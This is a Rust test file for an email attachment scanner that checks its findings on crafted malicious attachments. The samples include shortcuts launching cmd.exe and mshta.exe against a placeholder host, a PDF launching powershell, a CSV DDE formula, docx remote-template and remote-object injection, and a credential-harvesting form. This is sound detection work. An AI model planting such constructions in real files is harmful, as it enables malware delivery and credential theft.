//! What a person reads about single files: rule, place and sentence of what was found, and nothing about what only looks so.

use crate::{
    judge,
    samples::{
        compound, image, locked_zip, mail, note, package, packaged, pdf, pdf_stream, program, rtf_object, shortcut,
        tar, zip,
    },
    scanner,
};
use domain::{
    evidence::{Check, Filter},
    verdict::Verdict,
};
use postern_server::commands::scan::policy_file::default_policy;

/// The verdict without File Blocking, YARA rules and the analyser: what the looks into files say by themselves.
fn look(files: &[(&str, &[u8])]) -> Verdict {
    look_at(&mail("See attached.", files))
}

fn look_at(mail: &[u8]) -> Verdict {
    let mut policy = default_policy();
    policy.filters.file_blocking.setting.enabled = false;
    policy.filters.virtual_analyzer.setting.enabled = false;
    judge(&scanner(Vec::new()), mail, &policy)
}

/// `rule @ place` of each reason.
fn reasons(verdict: &Verdict) -> Vec<String> {
    verdict
        .because
        .iter()
        .map(|reason| format!("{} @ {}", reason.evidence.rule, reason.evidence.place.label()))
        .collect()
}

#[test]
fn what_was_found_is_named_with_its_place_and_shown() {
    let page = |body: &str| format!("<html><body>{body}</body></html>").into_bytes();
    let relation = |kind: &str, target: &str| {
        format!(
            "<Relationships><Relationship Type=\"http://x/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
        )
    };
    let cases: Vec<(&str, Vec<u8>, &str, &str)> = vec![
        (
            "a.lnk",
            shortcut("..\\cmd.exe", &format!("{}/c start a^.txt", " ".repeat(90)), "", false),
            "link-file:shell @ a.lnk",
            "“cmd.exe /c start a.txt”",
        ),
        (
            "a.lnk",
            shortcut("..\\cmd.exe", &format!("{}/c x", " ".repeat(90)), "", true),
            "link-file:padded @ a.lnk",
            "out of sight",
        ),
        (
            "a.lnk",
            shortcut("mshta.exe", "https://nowhere.example/", "", false),
            "link-file:download @ a.lnk",
            "“mshta.exe https://nowhere.example/”",
        ),
        (
            "a.lnk",
            shortcut("\\\\nowhere.example@80\\x\\run.exe", "", "", false),
            "link-file:remote-program @ a.lnk",
            "another machine",
        ),
        (
            "a.url",
            b"[InternetShortcut]\r\nURL=file://203.0.113.9/x/run.exe\r\n".to_vec(),
            "link-file:remote-program @ a.url",
            "203.0.113.9",
        ),
        (
            "a.iso",
            image(&[("Plan.txt", b"text"), ("Plan.scr", &program())], true, false),
            "disk-image:program @ a.iso",
            "“Plan.scr”",
        ),
        (
            "a.html",
            page("<form action=//nowhere.example><input type=password></form>"),
            "html:credential-form @ a.html",
            "“nowhere.example”",
        ),
        (
            "a.csv",
            b"name,=cmd|'/c notes'!A0\n".to_vec(),
            "document:dde-command @ a.csv",
            "DDE",
        ),
        (
            "a.docx",
            package(
                "word",
                &[(
                    "word/_rels/settings.xml.rels",
                    relation("attachedTemplate", "http://nowhere.example/t").as_bytes(),
                )],
            ),
            "document:remote-template @ a.docx › word/_rels/settings.xml.rels",
            "http://nowhere.example/t",
        ),
        (
            "a.docx",
            package(
                "word",
                &[(
                    "word/_rels/document.xml.rels",
                    relation(
                        "oleObject",
                        "mhtml:http://nowhere.example/a!x-usc:http://nowhere.example/b",
                    )
                    .as_bytes(),
                )],
            ),
            "document:remote-object @ a.docx › word/_rels/document.xml.rels",
            "nowhere.example",
        ),
        (
            "a.docx",
            package(
                "word",
                &[(
                    "word/_rels/document.xml.rels",
                    relation("oleObject", "https://nowhere.example/a.html").as_bytes(),
                )],
            ),
            "document:remote-object @ a.docx › word/_rels/document.xml.rels",
            "“https://nowhere.example/a.html”",
        ),
        (
            "a.pdf",
            pdf(&[b"<< /A << /S /Launch /Win << /F (powershell.exe) /P (-nop) >> >> >>".to_vec()]),
            "pdf:launch @ a.pdf",
            "“powershell.exe -nop”",
        ),
        (
            "a.pdf",
            pdf(&[
                b"<< /OpenAction 2 0 R >>".to_vec(),
                b"<< /S /JavaScript /JS 3 0 R >>".to_vec(),
                pdf_stream("", b"app.launchURL('http://nowhere.example')"),
            ]),
            "pdf:script @ a.pdf",
            "app.launchURL",
        ),
        (
            "a.pdf",
            pdf(&[
                b"<< /Type /Filespec /F (run.exe) /EF << /F 2 0 R >> >>".to_vec(),
                pdf_stream("/Type /EmbeddedFile", &program()),
            ]),
            "pdf:embedded-program @ a.pdf",
            "“run.exe”",
        ),
        (
            "a.rtf",
            format!("{{\\rtf1 {}}}", rtf_object("Package", &packaged("run.exe", &program()))).into_bytes(),
            "document:embedded-program @ a.rtf",
            "“run.exe”",
        ),
        (
            "a.doc",
            compound(&[("/\u{1}Ole10Native", [vec![0; 4], packaged("run.vbs", b"x")].concat())]),
            "document:embedded-program @ a.doc",
            "“run.vbs”",
        ),
        ("a.one", note(&[&program()]), "note:program @ a.one", "file 1"),
        (
            "a.jpg          .exe",
            b"text".to_vec(),
            "name:double-extension @ a.jpg          .exe",
            "called like a document",
        ),
        (
            "b.zip",
            zip(&[("a.tar", &tar("b.zip", &zip(&[("run.exe", &program())])))]),
            "archive:nested-program @ b.zip › a.tar › b.zip › run.exe",
            "several archives",
        ),
    ];
    let mut wrong = Vec::new();
    for (name, content, rule, said) in cases {
        let verdict = look(&[(name, &content)]);
        let at = reasons(&verdict).iter().position(|found| found == rule);
        let because = at.map_or("", |at| &verdict.because[at].evidence.because);
        if !because.contains(said) {
            wrong.push(format!("{rule}: “{because}” of {:?}", reasons(&verdict)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_form_is_a_matter_of_reputation_and_the_rest_of_malware() {
    let form = look(&[(
        "a.html",
        b"<html><form action=https://nowhere.example><input type=password></form></html>",
    )]);
    let evidence = &form.because[0].evidence;
    assert_eq!(
        (evidence.check, evidence.filter),
        (Check::WebReputation, Filter::WebReputation)
    );
    let program = look(&[("a.one", &note(&[&program()]))]);
    let evidence = &program.because[0].evidence;
    assert_eq!(
        (evidence.check, evidence.filter),
        (Check::MalwareScanning, Filter::MalwareScanning)
    );
    // What is switched off is no reason.
    let mut policy = default_policy();
    policy.filters.web_reputation.enabled = false;
    policy.filters.virtual_analyzer.setting.enabled = false;
    let mail = mail(
        "x",
        &[(
            "a.html",
            b"<html><form action=https://nowhere.example><input type=password></form></html>",
        )],
    );
    assert!(judge(&scanner(Vec::new()), &mail, &policy).because.is_empty());
}

#[test]
fn files_of_an_image_are_looked_at_like_members_of_an_archive() {
    let inner = zip(&[("deep.lnk", &shortcut("cmd.exe", "/c notes", "", false))]);
    for is_joliet in [true, false] {
        let found = reasons(&look(&[("a.img", &image(&[("INNER.ZIP", &inner)], is_joliet, false))]));
        assert_eq!(found, ["link-file:shell @ a.img › INNER.ZIP › deep.lnk"], "{is_joliet}");
    }
    assert!(
        look(&[("a.iso", &image(&[("READ.ME", b"text")], true, false))])
            .because
            .is_empty()
    );
    // Cut off, it says so, and what is there is still seen.
    let whole = image(&[("B.TXT", &vec![b'x'; 9_000]), ("RUN.EXE", &program())], true, false);
    let found = reasons(&look(&[("a.iso", &whole[..20 * 2_048 + 500])]));
    assert!(
        found.contains(&"disk-image:program @ a.iso".into()) && found.contains(&"limit:broken @ a.iso".into()),
        "{found:?}"
    );
}

#[test]
fn a_locked_archive_is_opened_with_the_password_of_its_mail_and_no_other() {
    for is_old in [true, false] {
        let bad = locked_zip(&[("run.exe", &program())], "s3same!", is_old);
        let good = locked_zip(&[("plan.txt", b"Monday: ropes.")], "s3same!", is_old);
        let found = |text: &str, archive: &[u8]| reasons(&look_at(&mail(text, &[("a.zip", archive)])));
        assert_eq!(
            found("The password is s3same!", &bad),
            ["archive:password-in-text @ a.zip"]
        );
        assert!(found("The password is s3same!", &good).is_empty());
        for text in ["The password is sesame", "s3same!"] {
            assert_eq!(found(text, &bad), ["protected:archive @ a.zip"], "{text}");
        }
    }
}
